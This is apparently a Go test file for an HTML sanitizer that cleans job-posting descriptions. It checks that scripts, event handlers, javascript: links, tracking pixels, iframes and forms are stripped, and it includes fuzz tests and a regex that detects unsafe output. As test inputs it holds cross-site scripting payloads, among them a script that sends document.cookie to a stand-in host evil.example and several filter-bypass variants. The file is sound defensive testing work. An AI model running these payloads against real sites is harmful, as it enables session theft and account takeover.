package normalize

import (
	"regexp"
	"strings"
	"testing"
)

func TestSanitize(t *testing.T) {
	tests := []struct {
		name, in, want string
	}{
		{"script removed with its text",
			`<p>Poste basé à Lomé.</p><script>document.location='https://evil.example/?c='+document.cookie</script>`,
			`<p>Poste basé à Lomé.</p>`},
		{"event handler removed",
			`<p onclick="steal()">Apply <b onmouseover="x()">now</b></p>`,
			`<p>Apply <b>now</b></p>`},
		{"javascript link dropped, text kept",
			`<p>Click <a href="javascript:alert(1)">here</a></p>`,
			`<p>Click  here </p>`}, // a stripped tag leaves a space
		{"obfuscated javascript link dropped",
			`<a href="jav&#x09;ascript:alert(1)">x</a>`,
			`<p>x</p>`},
		{"tracking pixel removed",
			`<p>Deadline 14 March</p><img src="https://track.example/p.gif?id=42" width="1" height="1">`,
			`<p>Deadline 14 March</p>`},
		{"img with onerror removed",
			`<img src=x onerror="alert(1)"><p>Driver</p>`,
			`<p>Driver</p>`},
		{"style, class and id removed",
			`<p style="color:red" class="big" id="intro">Intro</p><style>p{display:none}</style>`,
			`<p>Intro</p>`},
		{"link kept with rel and no target",
			`<a href="https://careers.unicef.org/job/123" target="_blank" rel="opener">Apply</a>`,
			`<a href="https://careers.unicef.org/job/123" rel="nofollow noopener">Apply</a>`},
		{"mailto link kept",
			`<a href="mailto:recrutement@example.tg">écrire</a>`,
			`<a href="mailto:recrutement@example.tg" rel="nofollow noopener">écrire</a>`},
		{"relative link dropped",
			`<a href="/apply">Apply</a>`,
			`<p>Apply</p>`},
		{"nested lists kept",
			`<ul><li>Profil<ul><li>Bac+5</li><li>5 ans</li></ul></li><li>Langues</li></ul>`,
			`<ul><li>Profil<ul><li>Bac+5</li><li>5 ans</li></ul></li><li>Langues</li></ul>`},
		{"h1 demoted, h5 raised",
			`<h1>Chauffeur</h1><h5>Tâches</h5><H1 class="x">Profil</H1>`,
			`<h2>Chauffeur</h2><h4>Tâches</h4><h2>Profil</h2>`},
		{"table basics kept",
			`<table border="1"><tr><th colspan="2">Lieu</th></tr><tr><td style="x">Lomé</td><td rowspan="x">Kara</td></tr></table>`,
			`<table><tr><th colspan="2">Lieu</th></tr><tr><td>Lomé</td><td>Kara</td></tr></table>`},
		{"iframe and form removed",
			`<iframe src="https://evil.example"></iframe><form action="/x"><input name="cv"></form><p>Texte</p>`,
			`<p>Texte</p>`},
		{"span stripped, words kept apart",
			`<div><span>Chargé</span><span>de</span> programme</div>`,
			`<div> Chargé  de  programme</div>`},
		{"plain text into paragraphs",
			"Le PNUD recrute un chauffeur.\n\nProfil :\n- permis C\n- 5 ans d'expérience\r\n\r\nDate limite : 14 mars 2026",
			`<p>Le PNUD recrute un chauffeur.</p><p>Profil :<br>- permis C<br>- 5 ans d&#39;expérience</p><p>Date limite : 14 mars 2026</p>`},
		{"plain text with entities and ampersand",
			"AT&T &amp; Co &eacute;quipe <3 a < b",
			`<p>AT&amp;T &amp; Co équipe &lt;3 a &lt; b</p>`},
		// Sanitize expects HTML unescaped once: a twice-escaped description has no tag, so it is
		// plain text and its tags show as text, inert (Job unescapes such input once first).
		{"escaped HTML stays inert text",
			`&lt;p&gt;Hello &lt;script&gt;alert(1)&lt;/script&gt;&lt;/p&gt;`,
			`<p>&lt;p&gt;Hello &lt;script&gt;alert(1)&lt;/script&gt;&lt;/p&gt;</p>`},
		{"text with angle brackets is text",
			"Salaire <USD 500> par mois\nÂge <35 ans",
			`<p>Salaire &lt;USD 500&gt; par mois<br>Âge &lt;35 ans</p>`},
		{"upper-case tags are tags",
			`<P>Texte</P><BR/><SCRIPT>x()</SCRIPT>`,
			`<p>Texte</p><br/>`},
		{"whitespace only", " \n\t\r\n ", ""},
		{"tags without text", `<p> </p><br><img src="x.gif"><p>&nbsp;</p>`, ""},
		{"comment removed", `<!-- tracking --><p>Texte</p>`, `<p>Texte</p>`},
		{"javascript: in text defused",
			`<p>Skills: JavaScript: React</p>`,
			`<p>Skills: JavaScript&#58; React</p>`},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			if got := Sanitize(tt.in); got != tt.want {
				t.Errorf("Sanitize(%q)\n got %q\nwant %q", tt.in, got, tt.want)
			}
		})
	}
}

func TestSanitizeCutsLongText(t *testing.T) {
	in := strings.Repeat("<p>Une ligne de description assez longue pour remplir.</p>", 5000)
	got, cut := sanitize(in)
	if !cut || len(got) > maxHTML || !strings.HasSuffix(got, "</p>") {
		t.Fatalf("cut=%v len=%d, ends %q", cut, len(got), got[len(got)-10:])
	}
}

// unsafe finds what must never come out of Sanitize: scripts, images, frames, javascript: or
// data: URLs and event-handler attributes.
var unsafe = regexp.MustCompile(`(?i)<\s*(script|img|iframe|object|embed|style|form|svg|math)|javascript:|vbscript:|(href|src)\s*=\s*["']?\s*data:|<[^>]*\son[a-z]+\s*=`)

func FuzzSanitize(f *testing.F) {
	for _, s := range []string{
		`<p onclick="x">a</p>`, `<img src=x onerror=alert(1)>`, `<a href="javascript:alert(1)">x</a>`,
		`<scr<script>ipt>alert(1)</script>`, `<svg/onload=alert(1)>`, `<a href="jav&#x09;ascript:x">x</a>`,
		"plain\n\ntext", `<h1>x</h1><h6>y</h6>`, `&lt;p&gt;x&lt;/p&gt;`, `<p style="background:url(javascript:x)">y</p>`,
		`<a href=" javascript:x">y</a>`, `<<img src=x>`, `<math><mi xlink:href="javascript:x">`,
	} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in string) {
		out := Sanitize(in)
		if unsafe.MatchString(out) {
			t.Fatalf("Sanitize(%q) = %q", in, out)
		}
		if Sanitize(out) != out {
			t.Fatalf("Sanitize is not stable on %q: %q then %q", in, out, Sanitize(out))
		}
	})
}

func BenchmarkSanitize(b *testing.B) {
	it := typicalItem(b)
	b.SetBytes(int64(len(it.DescriptionHTML)))
	b.ReportAllocs()
	for b.Loop() {
		Sanitize(it.DescriptionHTML)
	}
}
